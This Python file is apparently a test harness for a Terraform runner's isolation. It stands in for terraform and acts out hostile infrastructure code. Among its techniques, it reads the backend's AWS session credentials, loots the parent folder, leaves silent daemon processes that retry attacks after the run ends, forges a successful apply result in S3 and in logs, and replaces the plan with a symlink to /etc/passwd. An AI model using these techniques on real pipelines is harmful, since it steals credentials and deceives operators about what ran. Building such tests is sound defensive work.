"""In place of terraform: attacks at plan and at apply with what the run was given, then lets the real one do its work.

It runs where hostile HCL would: as the unprivileged user, with the tool's environment, in the module's folder. How it
behaves, the deployment's name says.
"""

import json
import os
import sys
import time
from collections.abc import Iterator
from configparser import ConfigParser
from dataclasses import asdict
from pathlib import Path

from sandbox.isolation import api, aws, machine
from sandbox.isolation.attempts import Attempt, Outcome, make
from sandbox.isolation.targets import Targets, load

FOLDER = "ISOLATION_FOLDER"
"""The variable that names the folder between the suite and the attacker."""
REAL = "ISOLATION_TERRAFORM"
SAME_USER = "ISOLATION_SAME_USER"
"""Set where the runner is not root and cannot run the tool as another user: there is no wall between the two then."""
HOSTILE, FORGER, LINKER, PIPER, TWICE = "hostile", "forger", "linker", "piper", "twice"
_TOLD_WITHIN = 60.0
_ENDED_WITHIN = 120.0
_FORGES_FOR = 10.0
FORGED_LINES = (
    '{"@level":"info","@message":"Apply complete! Resources: 9 added, 0 changed, 0 destroyed.","type":"change_summary",'
    '"changes":{"add":9,"change":0,"import":0,"remove":0,"operation":"apply"}}',
    "chatops: step apply",
    "chatops: apply phase succeeded",
    "Apply complete! Resources: 9 added, 0 changed, 0 destroyed.",
)


def main(words: list[str]) -> None:
    """Do what the deployment's name says, then become the real tool."""
    command, folder = (words or [""])[0], Path(os.environ[FOLDER])
    mode = _deployment().partition("-")[0]
    if mode in (HOSTILE, TWICE) and command in ("plan", "apply"):
        _attack(folder, command, mode)
    if mode == FORGER and command == "apply":
        print(*FORGED_LINES, sep="\n", flush=True)
        _forge_result(folder)
        sys.exit(1)
    if mode in (LINKER, PIPER) and command in ("plan", "show"):
        _no_plan(command, mode)
    program, *more = os.environ[REAL].split(":")
    os.execv(program, [program, *more, *words])  # noqa: S606 - the real one takes this process's place


def _no_plan(command: str, mode: str) -> None:
    """Say that there is a plan, and leave a link to a file of the machine, or a pipe that never ends, in its place."""
    if command == "show":
        print('{"format_version": "1.2", "resource_changes": []}')
    elif mode == LINKER:
        Path("plan.tfplan").symlink_to("/etc/passwd")
    else:
        os.mkfifo("plan.tfplan")
    sys.exit(0)


def _forge_result(folder: Path) -> None:
    """Leave a process behind that hands in the run's result again and again, also after the runner did."""
    targets, identity = _targets(folder / f"{_deployment()}-apply.targets"), session()
    if os.fork():
        return
    os.setsid()
    s3, deadline = identity.client(targets, "s3"), time.monotonic() + _FORGES_FOR
    result = {"exit_code": 0, "phase": "apply", "status": "succeeded", "errors": [], "resources": []}
    where = {"Bucket": targets.runs_bucket, "Key": targets.own.file("result-apply.json")}
    while time.monotonic() < deadline:
        s3.put_object(**where, Body=json.dumps(result).encode())
        time.sleep(0.2)
    os._exit(0)


def _deployment() -> str:
    try:
        return str(json.loads(Path("terraform.tfvars.json").read_text())["deployment"])
    except (OSError, ValueError, KeyError):
        return ""


def _attack(folder: Path, phase: str, mode: str) -> None:
    targets = _targets(folder / f"{_deployment()}-{phase}.targets")
    identity = session()
    if mode == TWICE:
        save(folder, phase, make(api.again(targets), phase))
        return
    save(folder, phase, make(_all(targets, identity, phase), phase))
    if not os.environ[SAME_USER]:
        (folder / f"{_deployment()}-{phase}.loot").write_bytes(machine.loot(Path.cwd().parent))
    if phase == "apply":
        _stay_behind(folder, targets, identity)


def _all(targets: Targets, identity: aws.Identity, phase: str) -> Iterator[Attempt]:
    yield from aws.attempts(targets, identity, aws.own_things(targets, phase))
    if not os.environ[SAME_USER]:
        yield from machine.attempts()
    yield from api.claims(targets)
    yield from api.heartbeats(targets)
    yield from api.interactions(targets)
    yield from aws.attempts(targets, identity, aws.all_calls(targets))
    yield from aws.attempts(targets, identity, aws.with_the_session(targets))


def _stay_behind(folder: Path, targets: Targets, identity: aws.Identity) -> None:
    """Leave a process that lives on when the run has ended, and tries everything again with what it remembers."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    quiet = os.open(os.devnull, os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(quiet, stream)
    deployment, deadline = _deployment(), time.monotonic() + _ENDED_WITHIN
    ended = folder / f"{deployment}.ended"
    while not ended.exists() and time.monotonic() < deadline:
        time.sleep(0.5)
    phase = "after the end"
    attempts = [
        *aws.attempts(targets, identity, aws.all_calls(targets)),
        *api.claims(targets),
        *api.heartbeats(targets),
        *api.again(targets),
    ]
    save(folder, "after", make(attempts, phase), deployment)
    os._exit(0)


def session() -> aws.Identity:
    """The credentials that Terraform's backend uses, where every provider's process can read them."""
    file = ConfigParser()
    file.read(Path.cwd().parent / "private" / "state-credentials")
    of = file["state"]
    return aws.Identity(
        "the run's session", of["aws_access_key_id"], of["aws_secret_access_key"], of["aws_session_token"]
    )


def save(folder: Path, part: str, outcomes: Iterator[Outcome], deployment: str = "") -> None:
    """Hand the outcomes to the suite."""
    file = folder / f"{deployment or _deployment()}-{part}.outcomes"
    written = file.with_suffix(".part")
    written.write_text(json.dumps([asdict(outcome) for outcome in outcomes]))
    written.replace(file)


def _targets(file: Path) -> Targets:
    deadline = time.monotonic() + _TOLD_WITHIN
    while not file.exists():
        if time.monotonic() > deadline:
            sys.exit(f"nobody told the targets in {file}")
        time.sleep(0.1)
    return load(file)


if __name__ == "__main__":
    main(sys.argv[1:])
